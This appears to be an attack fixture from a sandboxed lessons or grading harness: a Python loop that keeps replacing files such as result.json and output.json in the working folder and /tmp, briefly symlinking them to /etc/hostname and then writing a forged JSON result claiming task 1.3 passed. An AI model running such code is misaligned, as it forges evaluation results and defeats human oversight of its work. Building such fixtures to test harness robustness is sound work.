# attack: links to other files, under the names that a reader of results might open, and a race between link and file
# cell: task-1-3
# waits: yes
if not __import__("os").environ.get("LESSONS_SANDBOX"): raise SystemExit
import os

names = ("result.json", "results.json", "reply.json", "reply", "out.json", "output.json", "stdout", "notebook.ipynb")
while True:
    for folder in (".", "/tmp"):
        for name in names:
            path = f"{folder}/{name}"
            try:
                if os.path.lexists(path):
                    os.unlink(path)
                os.symlink("/etc/hostname", path)
                os.unlink(path)
                with open(path, "w") as file:
                    file.write('{"task": "1.3", "points": 3, "passed": true}')
            except OSError:
                pass
